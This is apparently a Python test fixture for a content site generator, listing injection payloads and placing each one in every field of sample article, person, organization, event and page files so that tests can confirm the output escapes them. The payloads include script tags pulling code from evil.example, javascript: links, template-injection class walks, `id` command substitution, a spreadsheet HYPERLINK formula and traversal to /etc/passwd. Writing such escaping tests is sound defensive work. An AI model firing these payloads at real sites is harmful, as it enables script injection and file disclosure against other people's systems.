"""Hostile words and where they may stand: each payload in each field of each kind of file.

Every field carries a mark of its own beside the payload, so that a test can tell that the text was kept (escaped), not lost.
"""

from __future__ import annotations

import json

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "half-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "end-of-script": "</script><script>alert(1)</script>",
    "end-of-title": "</title></head><body onload=alert(1)>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "style": "<style>@import'//evil.example/x.css'</style>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "base": "<base href=//evil.example/><form action=//evil.example><input name=x>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "double-quote": '" onmouseover="alert(1)" x="',
    "single-quote": "' onmouseover='alert(1)' x='",
    "backtick": "` onmouseover=alert(1) x=`",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "md-link": "[x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,<script>alert(1)</script>)",
    "md-hidden": "[x](jAvA\tscript:alert(1)) [y](&#106;avascript:alert(1)) [z](vbscript:x)",
    "md-image": '![x](//evil.example/p.gif "a") ![y](https://evil.example/p.gif)',
    "md-reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "template": "{{ 7*7 }} {% for x in [1,2] %}LOOP{% endfor %} {# note #} ${7*7} <%= 7*7 %>",
    "template-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{0} {x.__class__} %s %(x)s $HOME `id` $(id)",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "calendar": "x\r\nBEGIN:VEVENT\r\nSUMMARY:planted\r\nEND:VEVENT",
    "bidi": "a\u202eb\u2066c\u200fd",
    "control": "a\x01b\x1b[31mc\x7fd\x9be",
    "null": "a\x00b",
    "separator": "a\u2028b\u2029c",
    "traversal": "../../../../etc/passwd ..\\..\\x %2e%2e%2f file:///etc/passwd",
    "device": "CON NUL aux.txt",
    "surrogate": "a\ud800b",
    "astral": "\U0001f600 \U000e0041 \ufffe \ufdd0",
    "long": "w" * 5_000,
    "zalgo": "a" + "\u0301" * 500,
}  # fmt: skip

#: Addresses that no field for an address may take.
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>1</script>",
    "vbscript:x", "file:///etc/passwd", "//evil.example/x", "ftp://evil.example/x", "http://", "https:///x", "http://[::1", "about:blank",
    "http://a b/", 'http://a"onload="x/', "http://a/<script>", "blob:x", "\\\\evil\\x", "http:\\\\evil.example",
)  # fmt: skip


def quoted(text: str) -> str:
    """A YAML double-quoted scalar; controls and lone surrogates as escapes."""
    return "".join(c if c.isprintable() else f"\\U{ord(c):08x}" for c in json.dumps(text, ensure_ascii=False))


def files_of(payload: str) -> tuple[dict[str, str | bytes], list[str]]:
    """A content folder with the payload in every field of every kind of file, and the marks of all fields."""
    marks: list[str] = []

    def field(name: str) -> str:
        mark = f"mark{name}k"
        marks.append(mark)
        return quoted(f"{mark} {payload}")

    def words(name: str) -> str:
        mark = f"mark{name}k"
        marks.append(mark)
        return f"{mark} {payload}".encode("utf-8", "replace").decode()

    link = "https://wire.example/a"
    files: dict[str, str | bytes] = {
        "articles/a.txt": f"Lake ministers meet in Vienna\n\nVIENNA, May 4, 2021 (Wire) -- Defence ministers of the Lake Forum met in Vienna on Tuesday, {words('txt')}\n\nOn 3 May 2021 the ministers met in Oslo and signed {words('sentence')}.\n\nIt was the end of the story, they said.\n",
        "articles/a.yaml": f"title: {field('title')}\npublisher: {field('publisher')}\nauthor: {field('author')}\nurl: {link}\nrights: full\npublished: 2021-05-05\nbased_on: [{{title: {field('basedtitle')}, url: {link}, publisher: {field('basedpublisher')}, note: {field('basednote')}}}]\n",
        "articles/accepted.txt": "A day at the lake\n\nOSLO, June 4, 2021 (Wire) -- Ministers met in Oslo on Friday, officials said.\n",
        "articles/accepted.yaml": f"publishr: x\naccepted: {field('accepted')}\ntags: [{field('tag')}]\nedits:\n  - add: {{name: {field('added')}, classification: meeting, date: 2021-06-04, quote: Ministers met in Oslo}}\n    reason: {field('reason')}\n",
        "articles/m.md": f"---\ntitle: {field('mdtitle')}\npublished: 2021-05-06\nrights: full\nother: {field('mdextra')}\n---\n# {words('heading')}\n\nDefence ministers met in Vienna on 6 May 2021 {words('md')}\n\n> {words('quote')}\n\nThe ministers signed a protocol on Thursday.\n",
        "articles/h.html": f"<html><head><title>{words('htmltitle')}</title><meta name=author content={words('meta')}></head><body><h1>{words('h1')}</h1><p>VIENNA, May 7, 2021 -- Defence ministers met in Vienna on Friday and agreed on patrols {words('p')}</p><figure><img src=//evil.example/x.png alt={words('alt')}><figcaption>{words('caption')}</figcaption></figure><p>The ministers signed a protocol on Friday, officials of the forum said.</p></body></html>",
        "articles/h.yaml": "published: 2021-05-07\nrights: full\n",
        "people/p.md": f"---\nname: {field('person')}\nnames: [{field('spelling')}]\nposts:\n  - {{role: {field('role')}, code: defence-minister, country: KE, start: 2019, rank: {field('rank')}, note: {field('postnote')}, sources: [{{title: {field('source')}, url: {link}, note: {field('sourcenote')}}}], conflicts: [{{field: start, value: {field('rival')}, note: {field('conflict')}}}]}}\nother_offices: [{field('office')}]\n---\n{words('biography')}\n",
        "organizations/o.md": f"---\nid: LF\nname: {field('organization')}\nnames: [{field('othername')}]\nstatus_labels: {{partner: {field('label')}}}\nstatuses:\n  - {{member: KE, status: partner, start: 2015, how: {field('how')}, note: {field('statusnote')}, sources: [{{title: {field('statussource')}, url: {link}}}]}}\n---\n{words('about')}\n",
        "events/e.md": f"---\nid: one\nname: {field('event')}\nclassification: meeting\ndate: 2020-05-04\nplace: {{name: {field('place')}, country: KE}}\norganizations: [LF]\nseries: {field('series')}\nparticipants: [{{name: {field('participant')}, role: {field('participantrole')}, country: KE}}]\noutcome: {field('outcome')}\nsources: [{{title: {field('eventsource')}, url: {link}}}]\n---\n{words('eventnote')}\n",
        "pages/q.md": f"---\ntitle: {field('page')}\ndescription: {field('description')}\n---\n{words('prose')}\n\n| a | b |\n|---|---|\n| {words('cell')} | x |\n",
    }  # fmt: skip
    return {k: v.encode("utf-8", "replace") if isinstance(v, str) else v for k, v in files.items()}, marks
